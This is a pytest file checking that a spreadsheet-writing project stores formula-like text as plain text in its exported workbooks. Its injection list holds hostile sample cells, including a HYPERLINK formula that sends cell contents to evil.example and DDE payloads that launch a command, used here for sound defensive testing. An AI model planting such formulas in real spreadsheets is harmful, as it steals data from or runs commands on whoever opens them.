"""Formula-like texts stay text in every workbook Bixue writes (bixue/textcell.py)."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from bixue.forms.templates import render_workbook
from bixue.render.annotate import annotate_workbook
from bixue.rules.problem import Problem
from bixue.scoring.tables import COLUMNS, NUMERIC, xlsx_bytes
from bixue.textcell import formula_like, put_text

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "＝1+1",
    "\t=1+1",
]
_FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")
_TYPED = re.compile(rb'<(?:\w+:)?c\b[^>]*\bt="(str|e)"')


def formula_cells(book: bytes) -> list[str]:
    """The parts of a saved workbook holding a formula element or a formula/error typed cell."""
    archive = zipfile.ZipFile(io.BytesIO(book))
    return [
        name
        for name in archive.namelist()
        if name.startswith("xl/worksheets/")
        and (_FORMULA.search(xml := archive.read(name)) or _TYPED.search(xml))
    ]


def text_values(book: bytes) -> set[str]:
    """Every text cell value of a saved workbook, as openpyxl reads it back."""
    loaded = load_workbook(io.BytesIO(book))
    return {
        c.value
        for ws in loaded.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


@pytest.mark.parametrize("text", INJECTIONS)
def test_put_text_stores_a_plain_string_with_the_quote_prefix(text: str) -> None:
    book = Workbook()
    cell = book.active["A1"]  # type: ignore[index]
    put_text(cell, text)
    out = io.BytesIO()
    book.save(out)
    assert (cell.data_type, cell.quotePrefix, formula_like(text)) == ("s", True, True)
    assert formula_cells(out.getvalue()) == []
    assert text in text_values(out.getvalue())


@pytest.mark.parametrize("text", INJECTIONS)
def test_the_annotated_receipt_workbook_keeps_injected_cells_as_text(text: str) -> None:
    rows = {"a3": [{"project_name": text, "partner": text, "site": "禄丰市"}]}
    content = render_workbook("a3", year=2023, month=5, unit="禄丰市", rows=rows)
    problem = Problem(
        rule="a3.partner", message=text, sheet="Sheet1", row=7, column="C", value=text, fix=text
    )
    book = annotate_workbook(content, "xlsx", [problem])
    assert book is not None
    assert formula_cells(book) == []
    assert text in text_values(book)


@pytest.mark.parametrize("text", INJECTIONS)
def test_the_score_export_keeps_injected_texts_as_text(text: str) -> None:
    row = {name: "1.5" if name in NUMERIC else text for name in COLUMNS}
    book = xlsx_bytes([row], note=text)
    assert formula_cells(book) == []
    assert text in text_values(book)
